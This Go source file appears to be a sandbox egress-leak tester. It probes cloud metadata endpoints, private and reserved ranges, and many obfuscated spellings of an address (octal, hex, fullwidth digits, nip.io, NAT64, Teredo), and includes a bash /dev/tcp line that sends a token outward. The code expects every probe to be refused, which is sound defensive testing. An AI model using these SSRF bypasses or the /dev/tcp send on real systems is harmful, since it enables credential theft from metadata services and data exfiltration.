package leak

import (
	"context"
	"fmt"
	"net/netip"
	"strings"

	"github.com/miekg/dns"
)

// addresses are those that answer in many clouds, and those that stand for
// somebody else.
func (a Aim) addresses() []way {
	refusal := []Outcome{Reset, Unreachable}
	var list []way
	for _, m := range []struct{ name, at string }{
		{"metadata", "169.254.169.254:80"}, {"metadata of containers", "169.254.170.2:80"}, {"metadata by IPv6", "[fd00:ec2::254]:80"},
		{"metadata of Alibaba", "100.100.100.200:80"}, {"metadata of Oracle", "192.0.0.192:80"}, {"metadata of Azure", "168.63.129.16:80"},
		{"a private network, 10/8", "10.0.0.1:80"}, {"a private network, 172.16/12", "172.17.0.1:2375"}, {"a private network, 192.168/16", "192.168.0.1:80"},
		{"a carrier's network", "100.64.0.1:80"}, {"a private network by IPv6", "[fd00::1]:80"}, {"a neighbour on the link", "10.88.0.3:80"},
		{"a synthetic address nobody was given", "198.18.0.77:443"}, {"link-local by IPv6", "[fe80::1%eth0]:80"}, {"the gateway by its link-local address", "[fe80::72:65ff:fe69:6e01%eth0]:80"},
		{"this network", "0.1.2.3:80"}, {"reserved", "240.0.0.1:80"}, {"site-local by IPv6", "[fec0::1]:80"}, {"discard by IPv6", "[100::1]:80"},
	} {
		list = append(list, request("http to "+m.name, "http://"+strings.Replace(m.at, "%", "%25", 1)+"/latest/meta-data/", refusal, "", ""))
	}
	list = append(list, request("http to metadata by name", "http://metadata.google.internal/computeMetadata/v1/", []Outcome{NoName}, "", ""),
		request("http to instance-data", "http://instance-data/latest/meta-data/", []Outcome{NoName}, "", ""))
	for i := range list {
		list[i].group = "address"
	}
	return list
}

// spelling is a way of writing an address.
type spelling struct{ name, text string }

// spell is every way of writing an IPv4 address that some program understands.
func spell(ip netip.Addr) []spelling {
	b := ip.As4()
	n := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
	return []spelling{
		{"decimal", fmt.Sprintf("%d", n)}, {"hex", fmt.Sprintf("%#x", n)}, {"octal", fmt.Sprintf("0%o", n)},
		{"dotted hex", fmt.Sprintf("%#x.%#x.%#x.%#x", b[0], b[1], b[2], b[3])}, {"dotted octal", fmt.Sprintf("0%o.0%o.0%o.0%o", b[0], b[1], b[2], b[3])},
		{"three parts", fmt.Sprintf("%d.%d.%d", b[0], b[1], n&0xffff)}, {"two parts", fmt.Sprintf("%d.%d", b[0], n&0xffffff)},
		{"mixed", fmt.Sprintf("%#x.%d.0%o.%d", b[0], b[1], b[2], b[3])}, {"leading zeros", fmt.Sprintf("%03d.%03d.%03d.%03d", b[0], b[1], b[2], b[3])},
		{"a final dot", ip.String() + "."}, {"wide digits", wide(ip.String())}, {"wildcard dns", ip.String() + ".nip.io"},
	}
}

func wide(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= '0' && r <= '9' {
			return r - '0' + '０'
		}
		return r
	}, s)
}

// embed is an IPv4 address in every form of IPv6 that carries one.
func embed(ip netip.Addr) []spelling {
	b := ip.As4()
	hex := fmt.Sprintf("%02x%02x:%02x%02x", b[0], b[1], b[2], b[3])
	turned := fmt.Sprintf("%02x%02x:%02x%02x", ^b[0], ^b[1], ^b[2], ^b[3])
	return []spelling{
		{"mapped", "::ffff:" + ip.String()}, {"compatible", "::" + ip.String()}, {"NAT64", "64:ff9b::" + ip.String()}, {"local NAT64", "64:ff9b:1::" + ip.String()},
		{"6to4", "2002:" + hex + "::1"}, {"Teredo", "2001:0:" + hex + "::" + turned}, {"ISATAP", "2001:db8::5efe:" + ip.String()},
	}
}

// spellings are one address, the sink's own where it has one, written in every
// way: asked for as a name, which only a resolver judges, at the proxy, which
// the gateway would judge, and by a program with glibc's parser.
func (a Aim) spellings() []way {
	to := netip.MustParseAddrPort("169.254.169.254:80")
	for _, s := range a.Sinks {
		if s.Addr().Is4() {
			to = s
			break
		}
	}
	port := to.Port()
	gateway := netip.AddrPortFrom(a.Gateway[0], proxyPort).String()
	resolver := netip.AddrPortFrom(a.Gateway[0], 53).String()
	var list []way
	for _, s := range spell(to.Addr()) {
		list = append(list, connectBy("CONNECT by "+s.name, gateway, fmt.Sprintf("%s:%d", s.text, port)),
			by("spelling", "a name: "+s.name, "A? of "+s.text, []Outcome{NoName}, func(ctx context.Context, p *probe) seen {
				return ask(ctx, "udp", resolver, question(dns.Fqdn(s.text), dns.TypeA))
			}),
			program("bash by "+s.name, []string{"bash", "-c", `echo "$0" >"/dev/tcp/$1/$2"`, a.Token, s.text, fmt.Sprint(port)}, nil))
	}
	for _, s := range embed(to.Addr()) {
		at := fmt.Sprintf("[%s]:%d", s.text, port)
		list = append(list, connectBy("CONNECT by "+s.name, gateway, at))
		list = append(list, say("tcp by "+s.name, at, "", []Outcome{Reset, Unreachable, Forbidden, Unsupported}))
	}
	for i := range list {
		list[i].group = "spelling"
	}
	return list
}
